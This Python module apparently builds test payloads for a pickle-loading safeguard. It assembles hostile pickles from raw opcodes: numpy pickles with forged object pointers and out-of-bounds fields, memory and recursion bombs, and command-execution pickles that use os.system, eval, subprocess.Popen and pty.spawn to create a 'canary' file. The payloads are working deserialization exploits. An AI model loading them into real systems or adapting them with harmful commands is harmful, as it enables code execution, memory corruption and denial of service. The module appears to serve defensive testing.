"""Hostile pickles, put together from opcodes."""

from __future__ import annotations

import functools
import struct
from typing import Dict

STOP, NONE = b".", b"N"
EMPTY_DICT, EMPTY_LIST = b"}", b"]"

# What a dict or a hash table has to look for if all keys have the same hash.
SAME_HASH = 2**61 - 1


def name(module: str, attribute: str) -> bytes:
    """What puts a class or function on the stack."""
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def group(*parts: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


def listed(*parts: bytes) -> bytes:
    return b"](" + b"".join(parts) + b"e"


def mapped(*parts: bytes) -> bytes:
    """A dict of keys and values in turn."""
    return b"}(" + b"".join(parts) + b"u"


def call(function: bytes, *args: bytes) -> bytes:
    return function + group(*args) + b"R"


def build(value: bytes, state: bytes) -> bytes:
    return value + state + b"b"


def keep(value: bytes, place: int) -> bytes:
    """Put into the memo what stays on the stack as well."""
    return value + b"r" + struct.pack("<I", place)


def get(place: int) -> bytes:
    return b"j" + struct.pack("<I", place)


def dtype(kind: str, *state: bytes) -> bytes:
    made = call(name("numpy", "dtype"), text(kind), number(0), number(1))
    order = b"|" if kind[1:] in ("1", "8") and kind[0] in "Ob" else b"<"
    plain = (NONE, NONE, NONE, number(-1), number(-1), number(0))
    return build(made, group(number(3), text(order.decode()), *(state or plain)))


def array(kind: bytes, data: bytes, *shape: int) -> bytes:
    """As numpy pickles it.

    kind: of `dtype`. data: a pickled value.
    """
    empty = call(
        name("numpy.core.multiarray", "_reconstruct"),
        name("numpy", "ndarray"),
        group(number(0)),
        raw(b"b"),
    )
    sizes = group(*map(number, shape))
    return build(empty, group(number(1), sizes, kind, b"\x89", data))


POINTERS = raw(b"\x41" * 16)

# A dtype of 16 bytes with a field of Python objects that its flags do not tell of.
HIDDEN_OBJECT = dtype(
    "V16",
    NONE,
    group(text("a")),
    mapped(text("a"), group(dtype("O8"), number(0))),
    number(16),
    number(1),
    number(0),
)
OUT_OF_BOUNDS = dtype(
    "V16",
    NONE,
    group(text("a")),
    mapped(text("a"), group(dtype("f8"), number(2**30))),
    number(16),
    number(1),
    number(0),
)


def numpy_attacks() -> Dict[str, bytes]:
    """That make numpy read or write memory that is not the array's."""
    ndarray, encode = name("numpy", "ndarray"), name("_codecs", "encode")
    scalar = name("numpy.core.multiarray", "scalar")
    f8 = dtype("f8")
    return {
        "ndarray of objects": call(ndarray, group(number(2)), dtype("O8"), POINTERS),
        "ndarray of numbers": call(ndarray, group(number(2)), f8, POINTERS),
        "ndarray with strides": call(
            *(ndarray, group(number(2)), f8, POINTERS, number(0), group(number(8)))
        ),
        "array of objects": array(dtype("O8"), POINTERS, 2),
        "array of a list of objects": array(dtype("O8"), listed(NONE, NONE), 2),
        "hidden objects": array(HIDDEN_OBJECT, POINTERS, 1),
        "scalar of hidden objects": call(scalar, HIDDEN_OBJECT, POINTERS),
        "field out of bounds": array(OUT_OF_BOUNDS, POINTERS, 1),
        "scalar of a field out of bounds": call(scalar, OUT_OF_BOUNDS, POINTERS),
        "dtype of 0 bytes": array(
            dtype("V0", NONE, NONE, NONE, number(0), number(1), number(0)), POINTERS, 2**40
        ),
        "dtype of another size": array(
            dtype("f8", NONE, NONE, NONE, number(2**30), number(1), number(0)), POINTERS, 2
        ),
        "scalar too short": call(scalar, f8, raw(b"")),
        "array too short": array(f8, POINTERS, 3),
        "array too long": array(f8, POINTERS, 1),
        "array of a size beyond memory": array(f8, POINTERS, 2**62, 4),
        "array of a negative size": array(f8, POINTERS, -2),
        "array of two negative sizes": array(f8, POINTERS, -1, -2),
        "array of truths of 65": array(dtype("b1"), POINTERS, 16),
        "array of text": array(f8, text("€" * 16), 2),
        "array of no shape": build(array(f8, POINTERS, 2), NONE),
        "array built twice": build(array(f8, POINTERS, 2), group(number(1))),
        "buffer of objects": call(
            name("numpy._core.numeric", "_frombuffer"),
            *(POINTERS, dtype("O8"), group(number(2)), text("C")),
        ),
        "dtype of objects by its class": call(
            ndarray, group(number(2)), call(name("numpy", "dtype"), name("numpy", "ndarray"))
        ),
        "state for a function": build(
            encode, group(NONE, mapped(text("__defaults__"), group(text("utf-7"))))
        ),
        "state for a class": build(ndarray, mapped(text("build"), NONE)),
        "state for a dict": build(
            call(name("collections", "OrderedDict")), mapped(text("items"), NONE)
        ),
        "an item for an array": array(f8, POINTERS, 2) + number(0) + number(1) + b"s",
        "many items for an array": array(f8, POINTERS, 2)
        + b"("
        + group(listed(*map(number, [0] * 5000)), group(listed(*map(number, [0] * 5000))))
        + number(1)
        + b"u",
        "an attribute of numpy": name("numpy", "dtype.type"),
        "a function of numpy": call(name("numpy", "load"), text("a.pkl"), NONE, b"\x88"),
    }


def memory_attacks() -> Dict[str, bytes]:
    """That a few bytes make large, deep or slow."""
    text_of_1_mb = text("a" * 10**6)
    encode = name("_codecs", "encode")
    laughs = keep(listed(*[number(0)] * 10), 0)
    for level in range(1, 12):
        laughs += keep(listed(*[get(level - 1)] * 10), level)
    keys = b"".join(number(SAME_HASH * i) + NONE for i in range(150_000))
    many_arrays = keep(array(dtype("f8"), raw(bytes(8 * 10**5)), 10**5), 1)
    return {
        "a place in the memo of 2^31": NONE + b"r" + struct.pack("<I", 2**31 - 1),
        "a place in the memo of 10^30": NONE + b"p" + b"9" * 30 + b"\n",
        "lists of lists of the same": laughs,
        "a list in itself": keep(EMPTY_LIST, 0) + get(0) + b"a",
        "lists in lists": EMPTY_LIST * 10**5 + b"a" * (10**5 - 1),
        "tuples in tuples": b")" + b"\x85" * 10**5,
        "marks": b"(" * 10**5 + b"t",
        "text of 4 GB": b"X\xff\xff\xff\xff",
        "text of 2^63": b"\x8d" + struct.pack("<Q", 2**63 - 1),
        "bytes of 2^40": b"\x8e" + struct.pack("<Q", 2**40),
        "bytes of 8 GB": b"\x8e" + struct.pack("<Q", 2**33),
        "bytearray of 8 GB": b"\x96" + struct.pack("<Q", 2**33),
        "a frame of 8 GB": b"\x95" + struct.pack("<Q", 2**33),
        "a number of 2 GB": b"\x8b" + struct.pack("<i", 2**31 - 1),
        "a negative length": b"\x8b" + struct.pack("<i", -1),
        "a number of 255 bytes": b"\x8a\xff" + b"\x7f" * 255,
        "a number of a million digits": b"I" + b"9" * 10**6 + b"\n",
        "a hexadecimal number": b"I0x" + b"f" * 10**6 + b"\n",
        "the same text as bytes": listed(
            call(keep(encode, 1), keep(text_of_1_mb, 0), text("latin1")),
            *[call(get(1), get(0), text("latin1"))] * 10_000,
        ),
        "the same text as an array": listed(
            keep(dtype("f8"), 1),
            array(get(1), keep(text_of_1_mb, 0), 125_000),
            *[array(get(1), get(0), 125_000)] * 3000,
        ),
        "the same array often": listed(many_arrays, *[get(1)] * 10**5),
        "keys of the same hash": EMPTY_DICT + b"(" + keys + b"u",
        "a tuple as a key": mapped(group(number(1)), NONE),
        "a list as a key": mapped(EMPTY_LIST, NONE),
        "half a character": text("\ud800"),
    }


def code_attacks() -> Dict[str, bytes]:
    """That would make a file `canary` in the working folder, or do something else."""
    canary, shell, python = "canary", "touch canary", "open('canary', 'w')"
    return {
        "os.system": call(name("os", "system"), text(shell)),
        "posix.system": call(name("posix", "system"), text(shell)),
        "eval": call(name("builtins", "eval"), text(python)),
        "exec": call(name("builtins", "exec"), text(python)),
        "Python 2's eval": call(name("__builtin__", "eval"), text(python)),
        "subprocess.Popen": call(name("subprocess", "Popen"), listed(text("touch"), text(canary))),
        "open": call(name("io", "open"), text(canary), text("w")),
        "mkdir": call(name("os", "mkdir"), text(canary)),
        "Path.touch": call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"))),
        "numpy.f2py": call(name("numpy.f2py.crackfortran", "myeval"), text(python)),
        "runpy": call(name("runpy", "run_path"), text(canary)),
        "timeit": call(name("timeit", "timeit"), text(python)),
        "pty": call(name("pty", "spawn"), text(shell)),
        "getattr": call(name("builtins", "getattr"), name("os", "path"), text("join")),
        "import": call(name("builtins", "__import__"), text("antigravity")),
        "torch.load": call(name("torch", "load"), text(canary), NONE, NONE, b"\x89"),
        "a class by INST": b"(" + text(shell) + b"ios\nsystem\n",
        "a class by OBJ": b"(" + name("os", "system") + text(shell) + b"o",
        "a class by NEWOBJ": name("subprocess", "Popen") + group(text(shell)) + b"\x81",
        "a class by STACK_GLOBAL": text("os")
        + text("system")
        + b"\x93"
        + group(text(shell))
        + b"R",
        "an instance's state": build(
            name("collections", "OrderedDict") + b")\x81",
            mapped(text("__class__"), name("subprocess", "Popen")),
        ),
        "an extension": b"\x82\x01",
        "a persistent id": b"P" + canary.encode() + b"\n",
    }


@functools.cache
def attacks() -> Dict[str, bytes]:
    """All of them by what they try, as whole pickles."""
    parts = {**numpy_attacks(), **memory_attacks(), **code_attacks()}
    return {key: b"\x80\x04" + part + STOP for key, part in parts.items()}
